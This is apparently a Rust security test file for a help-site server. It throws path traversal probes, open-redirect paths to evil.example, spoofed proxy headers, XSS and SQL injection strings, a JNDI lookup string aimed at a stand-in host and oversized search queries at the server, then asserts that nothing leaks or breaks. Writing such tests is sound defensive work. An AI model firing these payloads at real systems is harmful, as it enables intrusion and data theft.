//! What attackers try: paths that lead out, headers full of garbage, questions that hurt, words that
//! want to become markup.

use std::fs;

use crate::harness::{Customer, TestSite, Token, data, tokens};

#[test]
fn no_path_leads_to_what_is_not_published() {
    let site = TestSite::sample()
        .file(
            "kb.toml",
            "[site]\nname = \"CANARY-CONFIG\"\nlanguages = [\"en\", \"bn\"]\n",
        )
        .file("articles/en/.hidden.md", "# CANARY-HIDDEN\n\nText.\n")
        .file("articles/en/billing/unlinked.pdf", "CANARY-UNLINKED");
    let customer = site.serve();
    let tried = fs::read_to_string(data("probes/paths.txt")).unwrap();
    let lines = tried.lines().filter(|line| line.starts_with('/'));
    let mut paths: Vec<String> = lines.map(str::to_owned).collect();
    for root in [site.folder(), site.index()] {
        for file in crate::harness::files_below(&root) {
            paths.push(format!("/{}", kb::content::url::encode_path(&file)));
        }
        paths.push(root.to_str().unwrap().to_owned());
    }
    for path in &paths {
        let answer = customer.get(path);
        let text = String::from_utf8_lossy(&answer.body);
        assert!(
            [200, 302, 308, 404].contains(&answer.status),
            "{path}: {}",
            answer.status
        );
        assert!(
            !text.contains("root:")
                && !text.contains("CANARY-HIDDEN")
                && !text.contains("CANARY-UNLINKED")
                && !text.contains("[site]"),
            "{path}: {text}"
        );
        if answer.status == 200 {
            let known = path.starts_with("/?")
                || path.starts_with("/en/")
                || path.starts_with("/-/")
                || path.starts_with("/./");
            assert!(known, "{path} is answered");
        }
        let to = answer.header("location");
        assert!(
            to.is_empty() || (to.starts_with('/') && !to.starts_with("//") && !to.contains('\\')),
            "{path} leads to {to}"
        );
    }
}

#[test]
fn redirects_never_lead_to_another_host() {
    let customer = TestSite::sample().serve();
    for path in [
        "//evil.example/",
        "//evil.example/%2e%2e",
        "/\\evil.example/",
        "/%5cevil.example",
        "/en//evil.example/..",
        "///evil.example/en",
        "/en/?next=//evil.example",
        "/?next=https://evil.example",
        "/https://evil.example",
        "/en%2f%2fevil.example",
        "/%2f%2fevil.example/en/",
        "/.//evil.example",
        "/EN//EVIL.EXAMPLE",
        "/en/billing/refunds//",
        "//en/billing/refunds",
    ] {
        let answer = customer.ask(
            "GET",
            path,
            &[
                ("host", "evil.example"),
                ("x-forwarded-host", "evil.example"),
                ("x-forwarded-proto", "https"),
                ("forwarded", "host=evil.example"),
            ],
        );
        let to = answer.header("location");
        assert!(
            to.is_empty()
                || (to.starts_with('/') && !to.starts_with("//") && !to.starts_with("/\\")),
            "{path} leads to {to}"
        );
        assert!(
            !answer.header("location").contains("evil.example"),
            "{path} leads to {to}"
        );
    }
}

#[test]
fn what_a_proxy_or_a_stranger_says_changes_nothing() {
    let customer = TestSite::sample()
        .config("[site]\nurl = \"https://help.example.com\"\nlanguages = [\"en\", \"bn\"]\n")
        .serve();
    let plain = customer.page("/en/billing/refunds");
    for (name, value) in [
        ("x-forwarded-host", "evil.example"),
        ("x-forwarded-proto", "http"),
        ("x-forwarded-for", "127.0.0.1"),
        ("x-real-ip", "127.0.0.1"),
        ("forwarded", "for=127.0.0.1;host=evil.example"),
        ("host", "evil.example"),
        ("x-original-url", "/-/metrics"),
        ("x-rewrite-url", "/-/metrics"),
        ("x-http-method-override", "DELETE"),
        ("cookie", "lang=bn; session=1"),
        ("authorization", "Bearer x"),
        ("range", "bytes=0-10"),
        ("if-modified-since", "Thu, 01 Jan 2099 00:00:00 GMT"),
        ("expect", "100-continue"),
        ("origin", "null"),
        ("x-remote-user", "admin"),
    ] {
        let answer = customer.ask("GET", "/en/billing/refunds", &[(name, value)]);
        assert_eq!(answer.status, 200, "{name}");
        assert_eq!(answer.body, plain.body, "{name}");
    }
}

#[test]
fn garbage_in_headers_breaks_nothing_and_comes_back_nowhere() {
    let customer = TestSite::sample().serve();
    let long = vec![b'a'; 8192];
    let values: [&[u8]; 9] = [
        b"' OR 1=1 --",
        b"<script>alert(1)</script>",
        b"\xff\xfe\xfd",
        b"%0d%0aSet-Cookie: x=1",
        b"${jndi:ldap://evil.example}",
        b"{{7*7}}",
        b"../../etc/passwd",
        b"",
        &long,
    ];
    for name in [
        "user-agent",
        "referer",
        "accept-language",
        "accept-encoding",
        "accept",
        "x-forwarded-for",
        "cookie",
        "if-none-match",
        "x-request-id",
        "via",
        "dnt",
        "content-type",
        "te",
    ] {
        for value in values {
            for path in ["/", "/en/nothing", "/api/v1/search?q=refund"] {
                let answer = customer.ask_bytes(path, &[(name, value)]);
                assert!(answer.status < 500, "{name} {path}");
                for (key, held) in &answer.headers {
                    assert!(
                        value.is_empty() || held.as_bytes() != value,
                        "{name} comes back in {key}"
                    );
                }
                if let Ok(text) = std::str::from_utf8(&answer.body) {
                    assert!(!text.contains("<script>alert"), "{name} {path}");
                }
            }
        }
    }
}

#[test]
fn what_is_asked_is_text_wherever_it_is_said_again() {
    let customer = TestSite::sample()
        .article("en/tricky.md", "---\ntitle: \"<svg onload=alert(1)> zebra\"\ndescription: \"\\\"><script>alert(2)</script>\"\ntags: [\"<b>tag</b>\"]\n---\n\
            The zebra says &lt;svg onload=alert(3)&gt; and `<script>alert(4)</script>`.\n\n## Zebra <i>heading</i> &lt;b&gt;\n\n```\n</code><script>alert(5)</script> zebra\n```\n\n&amp;amp;lt;script&amp;amp;gt; zebra\n")
        .article("en/<img src=x onerror=alert(6)>/zebra.md", "# Zebra in a folder\n\nText.\n")
        .serve();
    let attacks = [
        "'\"><svg/onload=1>",
        "</title><script>alert(1)</script>",
        "zebra\"><img src=x onerror=alert(1)>",
        "{{ 7*7 }}{% raw %}",
        "<mark>zebra</mark>",
        "zebra&lt;script&gt;",
        "javascript:alert(1)",
        "\u{202e}zebra",
        "zebra\u{0}\r\nX: y",
    ];
    let mut pages = vec![
        "/en/".to_owned(),
        "/en/tricky".to_owned(),
        "/en/search?q=zebra".to_owned(),
    ];
    for attack in attacks {
        let q: String = attack.bytes().map(|byte| format!("%{byte:02X}")).collect();
        pages.push(format!("/en/search?q={q}"));
        pages.push(format!(
            "/en/search?q=zebra&category={q}&page={q}&exact={q}"
        ));
        pages.push(format!("/en/{q}"));
        pages.push(format!("/en/no/{q}/such.html"));
    }
    for path in pages {
        let page = customer.get(&path);
        assert!(
            page.status == 200 || page.status == 404 || page.status == 308,
            "{path}"
        );
        if !page.is_html() {
            continue;
        }
        for token in tokens(page.text()) {
            let Token::Open(name, attributes) = token else {
                continue;
            };
            let strange = attributes.keys().any(|key| {
                key.starts_with("on")
                    || key == "style"
                    || key == "src"
                        && name == "script"
                        && !attributes["src"].starts_with("/assets/")
            });
            assert!(!strange, "{path}: <{name} {attributes:?}>");
            assert!(
                attributes
                    .get("href")
                    .is_none_or(|to| !to.starts_with("javascript:")),
                "{path}: {attributes:?}"
            );
            assert!(
                !(name == "script" && attributes.get("type").map(String::as_str) != Some("module")),
                "{path}"
            );
            assert!(
                !(name == "svg"
                    && attributes
                        .get("class")
                        .is_none_or(|class| !class.starts_with("icon"))),
                "{path}"
            );
            assert!(name != "img", "{path}");
        }
    }
    // In the API it is data; nobody can take it for a page.
    let found = customer.page("/api/v1/search?q=zebra");
    assert_eq!(found.header("content-type"), "application/json");
}

#[test]
fn questions_that_hurt_others_do_no_harm_here() {
    let customer = TestSite::sample().serve();
    let started = std::time::Instant::now();
    let mut asked = 0;
    for question in [
        "(".repeat(1024),
        "\"a a a a\"~9".into(),
        "*:*".into(),
        "a* b* c* d*".into(),
        "refund:".into(),
        "how do I (reset".into(),
        "C++".into(),
        "/.*/".into(),
        "[a TO z]".into(),
        "NOT NOT NOT refund".into(),
        "refund^1e400".into(),
        "refund~9999".into(),
        "a ".repeat(2500),
        (0..500).map(|n| format!("word{n} ")).collect(),
        "refund ".repeat(700),
        "রিফান্ড ".repeat(500),
        "\u{1f468}\u{200d}\u{1f469}".repeat(300),
        "%".repeat(500),
        "_".repeat(500),
        "\\".repeat(500),
        "'".repeat(255),
        "\u{301}".repeat(3000),
        "x".repeat(60_000),
        "\u{0}\u{1}\u{2}".into(),
        "\u{202e}\u{feff}\u{200b}".into(),
        "-".repeat(900),
        "+ - && || ! ( ) { } [ ] ^ \" ~ * ? : \\ /".into(),
        "SELECT * FROM x; DROP TABLE y".into(),
    ] {
        let q: String = question
            .bytes()
            .map(|byte| format!("%{byte:02X}"))
            .collect();
        // An address may be 64 KiB long.
        let q = &q[..q.len().min(60_000) / 3 * 3];
        for path in [
            format!("/api/v1/search?q={q}"),
            format!("/api/v1/suggest?q={q}"),
            format!("/en/search?q={q}"),
            format!("/bn/search?q={q}&page=50"),
        ] {
            let mut answer = customer.get(&path);
            // From behind the last page to the last.
            if let Some(last) = answer.moved_to().strip_prefix("302 ") {
                answer = customer.get(last);
            }
            assert_eq!(
                answer.status,
                200,
                "{}",
                question.chars().take(40).collect::<String>()
            );
            asked += 1;
        }
    }
    assert!(
        started.elapsed().as_millis() < asked * 250,
        "{asked} questions took {:?}",
        started.elapsed()
    );
}

#[test]
fn parameters_in_odd_numbers_and_shapes_are_read_calmly() {
    let customer = TestSite::sample().serve();
    let many: String = (0..5_000).map(|n| format!("f{n}=x&")).collect();
    for query in [
        "q[]=refund",
        "q=refund&q=other",
        "q",
        "q=&q=",
        "=&=&=",
        "&&&&",
        "q=%",
        "q=%zz",
        "q=%ff",
        "q=refund&page=0",
        "q=refund&page=-1",
        "q=refund&page=1e9",
        "q=refund&page=99999999999999999999999",
        "q=refund&category=../..",
        "q=refund&category=%00",
        &many,
    ] {
        let answer = customer.get(&format!("/en/search?{query}"));
        assert_eq!(answer.status, 200, "{}", &query[..query.len().min(60)]);
    }
}

#[test]
fn nothing_in_the_index_directory_holds_what_is_not_public() {
    let site = TestSite::sample()
        .article(
            "en/draft.md",
            "---\ntitle: CANARYDRAFT\ndraft: true\n---\nCANARYDRAFT text.\n\n[f](canary.pdf)\n",
        )
        .file("articles/en/canary.pdf", "CANARYDRAFT file")
        .article(
            "en/owned.md",
            "---\ntitle: Owned\nowner: canarydraft@example.com\n---\nText.\n",
        );
    let _ = site.build();
    for file in crate::harness::files_below(&site.index()) {
        let bytes = fs::read(site.index().join(&file)).unwrap();
        let text = String::from_utf8_lossy(&bytes).to_lowercase();
        assert!(!text.contains("canarydraft"), "{file}");
    }
}

/// Everybody may look at every address of a site, in any order.
#[test]
fn odd_hosts_and_targets_are_answered() {
    let customer: Customer = TestSite::sample().serve();
    for host in [
        "",
        "localhost:99999",
        "[::1]",
        "a b",
        "evil.example:80@help",
        "%00",
        "-",
    ] {
        let answer = customer.ask_bytes("/en/", &[("host", host.as_bytes())]);
        assert!(answer.status < 500, "{host}");
    }
    for target in [
        "http://evil.example/en/",
        "http://evil.example:1/en/billing/refunds",
        "https://user:pass@help/en/",
    ] {
        assert!(customer.get(target).status < 500, "{target}");
    }
}
